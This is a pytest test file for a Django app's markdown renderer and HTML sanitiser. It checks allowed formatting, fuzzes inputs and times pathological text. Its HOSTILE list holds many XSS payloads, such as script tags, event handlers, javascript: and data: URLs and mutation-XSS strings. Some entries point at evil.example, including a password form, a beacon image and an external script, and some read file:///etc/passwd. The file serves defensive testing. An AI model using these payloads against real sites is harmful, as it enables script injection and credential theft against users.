"""Bar D7: what authors may write comes through; nothing else does, whatever they write."""

import time
from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString
from hypothesis import given, settings
from hypothesis import strategies as st

from reports.markdown import (
    ALLOWED_LINK,
    ALLOWED_TAGS,
    blocks_of,
    clean,
    plain_text,
    render_block,
    render_inline,
)

ONE_TABLE = "| Team | Visits |\n| :--- | ---: |\n| Aldermere | 4 |"

ALLOWED = [
    ("", ""),
    ("   ", ""),
    ("\n\n", ""),
    ("One paragraph.", "<p>One paragraph.</p>"),
    ("One.\n\nTwo.", "<p>One.</p>\n<p>Two.</p>"),
    ("One.\n\n\n\nTwo.", "<p>One.</p>\n<p>Two.</p>"),
    ("One\nline on.", "<p>One\nline on.</p>"),
    ("One\r\nline on.", "<p>One\nline on.</p>"),
    ("One.\r\rTwo.", "<p>One.</p>\n<p>Two.</p>"),
    ("**bold**", "<p><strong>bold</strong></p>"),
    ("__bold__", "<p><strong>bold</strong></p>"),
    ("*italic*", "<p><em>italic</em></p>"),
    ("_italic_", "<p><em>italic</em></p>"),
    ("***both***", "<p><em><strong>both</strong></em></p>"),
    ("a **b** c *d* e", "<p>a <strong>b</strong> c <em>d</em> e</p>"),
    ("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"),
    ("*a **b** c*", "<p><em>a <strong>b</strong> c</em></p>"),
    ("snake_case_word", "<p>snake_case_word</p>"),
    ("2 * 3 * 4", "<p>2 * 3 * 4</p>"),
    ("5 ** 2", "<p>5 ** 2</p>"),
    ("not **closed", "<p>not **closed</p>"),
    (r"\*not italic\*", "<p>*not italic*</p>"),
    (r"\[not a link\](x)", "<p>[not a link](x)</p>"),
    (r"C:\new", "<p>C:\\new</p>"),
    ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
    ("* one\n* two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
    ("+ one", "<ul>\n<li>one</li>\n</ul>"),
    ("• one\n• two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
    ("▪ one", "<ul>\n<li>one</li>\n</ul>"),
    ("•\tone", "<ul>\n<li>one</li>\n</ul>"),
    ("I have:\n- one", "<p>I have:</p>\n<ul>\n<li>one</li>\n</ul>"),
    ("- one\n\nAfter.", "<ul>\n<li>one</li>\n</ul>\n<p>After.</p>"),
    ("- **one**", "<ul>\n<li><strong>one</strong></li>\n</ul>"),
    ("- a\n  - b", "<ul>\n<li>a\n<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>"),
    ("- a\n\n- b", "<ul>\n<li>\n<p>a</p>\n</li>\n<li>\n<p>b</p>\n</li>\n</ul>"),
    ("-not a bullet", "<p>-not a bullet</p>"),
    ("a - b", "<p>a - b</p>"),
    ("[the plan](https://example.org/plan)", '<p><a href="https://example.org/plan">the plan</a></p>'),
    ("[the plan](http://example.org)", '<p><a href="http://example.org">the plan</a></p>'),
    ("[write](mailto:clerk@example.org)", '<p><a href="mailto:clerk@example.org">write</a></p>'),
    ("[paragraph 3.7](#p-3-7)", '<p><a href="#p-3-7">paragraph 3.7</a></p>'),
    ("[minute 23.5](#m-23-5)", '<p><a href="#m-23-5">minute 23.5</a></p>'),
    ("[**bold**](https://example.org)", '<p><a href="https://example.org"><strong>bold</strong></a></p>'),
    ("**[a](https://example.org)**", '<p><strong><a href="https://example.org">a</a></strong></p>'),
    ("[a](https://example.org?x=1&y=2)", '<p><a href="https://example.org?x=1&amp;y=2">a</a></p>'),
    ('[a](https://example.org "title")', '<p><a href="https://example.org">a</a></p>'),
    ("[a](<https://example.org/b c>)", '<p><a href="https://example.org/b%20c">a</a></p>'),
    ("[a](https://example.org/ü)", '<p><a href="https://example.org/%C3%BC">a</a></p>'),
    ("Fish & chips", "<p>Fish &amp; chips</p>"),
    ("1 < 2 > 0", "<p>1 &lt; 2 &gt; 0</p>"),
    ("\"quoted\" and 'this'", "<p>\"quoted\" and 'this'</p>"),
    ("£1,200 – “curly” – naïve", "<p>£1,200 – “curly” – naïve</p>"),
    ("1. first\n2. second", "<p>1. first\n2. second</p>"),
    ("2019. A year", "<p>2019. A year</p>"),
    ("1.1 numbered", "<p>1.1 numbered</p>"),
    ("1) first", "<p>1) first</p>"),
    ("50% of #3", "<p>50% of #3</p>"),
    ("    indented", "<p>indented</p>"),
    ("Tab\there", "<p>Tab\there</p>"),
    ("&nbsp; stays typed", "<p>&amp;nbsp; stays typed</p>"),
    (
        ONE_TABLE,
        '<table>\n<thead>\n<tr>\n<th scope="col">Team</th>\n<th scope="col" class="figure">Visits</th>\n'
        "</tr>\n</thead>\n<tbody>\n<tr>\n<td>Aldermere</td>\n"
        '<td class="figure">4</td>\n</tr>\n</tbody>\n</table>',
    ),
    (
        "|A|\n|-|",
        '<table>\n<thead>\n<tr>\n<th scope="col">A</th>\n</tr>\n</thead>\n</table>',
    ),
    (
        "|A|\n|:-:|\n|**b**|",
        '<table>\n<thead>\n<tr>\n<th scope="col">A</th>\n</tr>\n</thead>\n'
        "<tbody>\n<tr>\n<td><strong>b</strong></td>\n</tr>\n</tbody>\n</table>",
    ),
    ("a | b", "<p>a | b</p>"),
    ("|a|\nno rule", "<p>|a|\nno rule</p>"),
]

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/beacon.png'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='file:///etc/passwd'></object>",
    "<embed src='x.swf'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<p style='position:fixed;inset:0'>over</p>",
    "<p onclick=alert(1)>x</p>",
    "<p id=p-1-1>x</p>",
    "<p class=govuk-error-message>x</p>",
    "<td class='figure evil'>x</td>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/accounts/logout/'>x</a>",
    "<a href='https://example.org' target=_blank>x</a>",
    "<a href='https://example.org' onmouseover=alert(1)>x</a>",
    "<a href='https://example.org' ping='https://evil.example'>x</a>",
    "<a href='#top'>x</a>",
    "<a href='#p-1\"onclick=alert(1)'>x</a>",
    "<form action='https://evil.example'><input name=password></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio controls src=x></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- comment -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<h1>Heading</h1>",
    "<blockquote>x</blockquote>",
    "<br><hr>",
    "<pre><code>x</code></pre>",
    "<ol><li>x</li></ol>",
    "<table><caption>x</caption><tr><th scope='evil' colspan=1000 style='x'>a</th></tr></table>",
    "<strong title='x' data-x=1 aria-hidden=true>x</strong>",
    "<p>unclosed <strong>bold",
    "</p></div></article><script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<p>\u202eevil</p>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\\script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "[x](relative)",
    "[x](?next=/)",
    "[x](#top)",
    '[x](#p-1"onclick="alert(1))',
    '[x](https://example.org/"onclick="alert(1))',
    "[x](https://example.org/'onclick='alert(1))",
    '[x](https://example.org "x" onclick="alert(1)")',
    "[x](https://example.org/<script>)",
    "![x](https://evil.example/beacon.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](javascript:alert(1))",
    "<https://evil.example>",
    "<javascript:alert(1)>",
    "https://evil.example",
    "[ref]: javascript:alert(1)\n\n[ref]",
    "[ref]: https://evil.example\n\n[ref]",
    "# Heading",
    "Heading\n=======",
    "Heading\n-------",
    "***\n---\n___",
    "> quote",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "~~~html\n<script>\n~~~",
    "    <script>alert(1)</script>",
    "1. <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "- # Heading in a bullet",
    "|<script>|\n|--|\n|<img src=x onerror=alert(1)>|",
    "|[x](javascript:alert(1))|\n|--|",
    "**<script>alert(1)</script>**",
    "[<script>alert(1)</script>](https://example.org)",
    "[![x](https://evil.example/y.png)](https://example.org)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "- - - - - - - - - - - - x",
    "*" * 300 + "x" + "*" * 300,
    "[" * 300 + "x" + "](https://example.org)" * 300,
]


class Walker(HTMLParser):
    """Reads HTML as a browser would name it: every tag, attribute, comment and how deep tags stand."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.outside: list[str] = []
        self.open: list[str] = []
        self.deepest = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.open.append(tag)
        self.deepest = max(self.deepest, len(self.open))
        if tag not in ALLOWED_TAGS:
            self.outside.append(tag)
        for name, value in attrs:
            if not self.is_allowed(tag, name, value or ""):
                self.outside.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.outside.append(f"stray /{tag}")

    def handle_comment(self, data: str) -> None:
        self.outside.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.outside.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.outside.append("instruction")

    @staticmethod
    def is_allowed(tag: str, name: str, value: str) -> bool:
        if (tag, name) == ("a", "href"):
            return ALLOWED_LINK.fullmatch(value) is not None
        if (tag, name) == ("th", "scope"):
            return value in ("col", "row")
        return tag in ("th", "td") and name == "class" and value in ("figure", "")


def assert_harmless(html: str) -> None:
    walker = Walker(html)
    assert walker.outside == []
    assert walker.open == []
    assert clean(html) == html


@pytest.mark.parametrize(("text", "html"), ALLOWED)
def test_what_authors_may_write_becomes_this_html(text: str, html: str) -> None:
    assert render_block(text) == html


@pytest.mark.parametrize("text", [text for text, _ in ALLOWED])
def test_what_authors_may_write_is_clean(text: str) -> None:
    assert_harmless(render_block(text))
    assert_harmless(render_inline(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_renders_harmlessly(text: str) -> None:
    assert_harmless(render_block(text))
    assert_harmless(render_inline(text))


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_cleans_harmlessly(html: str) -> None:
    assert_harmless(clean(html))


MARKUP = st.text(
    st.sampled_from(list("abc 1.-+*_|[]()<>/\\&#;:!`~\"'=\n\t•é\x00")) | st.characters(), max_size=200
)
PIECES = st.lists(
    st.sampled_from([text for text, _ in ALLOWED] + HOSTILE) | MARKUP, min_size=1, max_size=4
).map("\n".join)


@settings(max_examples=2000, deadline=None)
@given(PIECES)
def test_any_text_renders_harmlessly_and_cleans_once_for_all(text: str) -> None:
    assert_harmless(render_block(text))
    assert_harmless(render_inline(text))
    once = clean(text)
    assert clean(once) == once
    assert Walker(once).outside == []


def test_what_is_returned_may_be_printed_as_it_is() -> None:
    assert isinstance(render_block("a"), SafeString)
    assert isinstance(render_inline("a"), SafeString)
    assert not isinstance(plain_text("a"), SafeString)


def test_an_inline_text_has_no_block_in_it() -> None:
    assert render_inline("met **all** of\n- the team") == "met <strong>all</strong> of\n- the team"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("**a** *b* [c](https://example.org)", "a b c"),
        ("One\nline.\n\nTwo.", "One line.\nTwo."),
        ("I have:\n- one\n- two", "I have:\none\ntwo"),
        (ONE_TABLE, "Team | Visits\nAldermere | 4"),
        ("1 < 2 & 3", "1 < 2 & 3"),
        ("<script>x</script>", "<script>x</script>"),
        ("- a\n  - b\n\nc", "a\nb\nc"),
        ("", ""),
    ],
)
def test_plain_text_keeps_the_words_only(text: str, words: str) -> None:
    assert plain_text(text) == words


def test_the_blocks_of_a_text_in_reading_order() -> None:
    assert blocks_of(render_block("First.\n\n- a\n- b\n\nLast.")) == ["First.", "a", "b", "Last."]
    assert blocks_of(render_inline("only *words*")) == ["only words"]


def test_bullets_nest_three_deep_and_no_word_is_lost_below() -> None:
    text = "\n".join(f"{'  ' * depth}- level{depth}" for depth in range(40))
    html = render_block(text)
    assert Walker(html).deepest == 6
    assert all(f"level{depth}" in html for depth in range(40))


def test_bold_in_bold_is_bold_once() -> None:
    html = render_block("*" * 400 + "x" + "*" * 400)
    assert html == "<p><strong>x</strong></p>"


def test_a_table_wider_than_the_page_stays_text() -> None:
    twelve = "|" + "a|" * 12 + "\n|" + "-|" * 12
    assert render_block(twelve).count("<th ") == 12
    assert "<table" not in render_block("|" + "a|" * 13 + "\n|" + "-|" * 13)


LONG = {
    "words": "word " * 10_000,
    "brackets": "[" * 50_000,
    "half links": "[a](" * 12_500,
    "stars": "*a **a " * 7_000,
    "underscores": "_ " * 25_000,
    "backslashes": "\\" * 50_000,
    "bullets": "- a\n" * 12_500,
    "nested bullets": "- " * 25_000,
    "stairs": "\n".join(" " * (2 * depth) + "- a" for depth in range(220)),
    "wide table": "|a" * 12_500 + "\n" + "|-" * 12_500,
    "long table": "|a|b|\n|-|-|\n" + "|1|2|\n" * 8_000,
    "ragged table": "|" + "a|" * 12 + "\n|" + "-|" * 12 + "\n" + "x\n" * 24_000,
    "angle brackets": "<" * 50_000,
    "ampersands": "&" * 50_000,
}


@pytest.mark.parametrize("text", LONG.values(), ids=LONG.keys())
def test_fifty_thousand_characters_are_quick(text: str) -> None:
    start = time.process_time()
    html = render_block(text)
    assert time.process_time() - start < 3
    assert Walker(html).outside == []
